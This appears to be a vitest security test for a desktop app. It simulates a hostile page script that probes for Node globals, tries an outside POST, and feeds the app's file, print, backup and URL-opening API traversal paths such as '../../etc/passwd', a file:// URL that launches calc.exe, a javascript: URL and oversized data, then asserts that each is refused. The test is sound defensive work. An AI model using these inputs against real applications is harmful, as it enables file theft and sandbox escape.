import { afterAll, beforeAll, expect, test } from 'vitest'
import { openApp, type Harness } from './support/browser'

let h: Harness
beforeAll(async () => {
  h = await openApp()
})
afterAll(async () => {
  await h.close()
})

test('a hostile page script gets no Node, no outside network, and every API call with bad arguments is refused', async () => {
  const downloads: string[] = []
  h.page.on('download', (d) => downloads.push(d.suggestedFilename()))
  const result = await h.page.evaluate(async () => {
    const out: Record<string, string> = {}
    const g = globalThis as unknown as Record<string, unknown>
    out['require'] = typeof g['require']
    out['process'] = typeof g['process']
    out['module'] = typeof g['module']
    try {
      await fetch('https://example.com/curi-data', { method: 'POST', body: 'x' })
      out['fetch'] = 'sent'
    } catch (e) {
      out['fetch'] = `refused: ${(e as Error).name}`
    }
    const big = 'x'.repeat(50 * 1024 * 1024)
    const bytes = new Uint8Array([1, 2, 3])
    const attempts: [string, () => Promise<unknown>][] = [
      ['save traversal', () => window.pkk.saveFile({ suggestedName: '..\\..\\Windows\\system.ini', kind: 'pdf', data: bytes })],
      ['save unix traversal', () => window.pkk.saveFile({ suggestedName: '../../etc/passwd', kind: 'pdf', data: bytes })],
      ['save absolute', () => window.pkk.saveFile({ suggestedName: 'C:\\Windows\\win.ini', kind: 'pdf', data: bytes })],
      ['save 50 MB name', () => window.pkk.saveFile({ suggestedName: big, kind: 'pdf', data: bytes })],
      ['save exe kind', () => window.pkk.saveFile({ suggestedName: 'a.exe', kind: 'exe' as never, data: bytes })],
      ['save string data', () => window.pkk.saveFile({ suggestedName: 'a.pdf', kind: 'pdf', data: big as never })],
      ['print empty', () => window.pkk.printPdf({ title: 'x', data: new Uint8Array() })],
      ['open file url', () => window.pkk.openExternal('file:///C:/Windows/System32/calc.exe')],
      ['open javascript url', () => window.pkk.openExternal('javascript:alert(1)')],
      ['backup bad reason', () => window.pkk.backup.write({ reason: 'curi' as never, json: '{}' })],
      ['backup 600 MB', () => window.pkk.backup.write({ reason: 'manual', json: big.repeat(12) })],
      ['backup read traversal', () => window.pkk.backup.read('../../../etc/passwd')],
      ['guard bad record', () => window.pkk.guard.write({} as never)]
    ]
    for (const [name, attempt] of attempts) {
      try {
        const r = await attempt()
        out[name] = `accepted ${JSON.stringify(r)?.slice(0, 60)}`
      } catch (e) {
        out[name] = `refused`
        void e
      }
    }
    return out
  })
  expect(result['require']).toBe('undefined')
  expect(result['process']).toBe('undefined')
  expect(result['module']).toBe('undefined')
  // The CSP's connect-src 'self' stops the request before it leaves.
  expect(result['fetch']).toMatch(/^refused/)
  for (const name of [
    'save traversal',
    'save unix traversal',
    'save absolute',
    'save 50 MB name',
    'save exe kind',
    'save string data',
    'print empty',
    'open file url',
    'open javascript url',
    'backup bad reason',
    'backup 600 MB',
    'backup read traversal',
    'guard bad record'
  ]) {
    expect(result[name], name).toBe('refused')
  }
  expect(downloads).toEqual([])
})
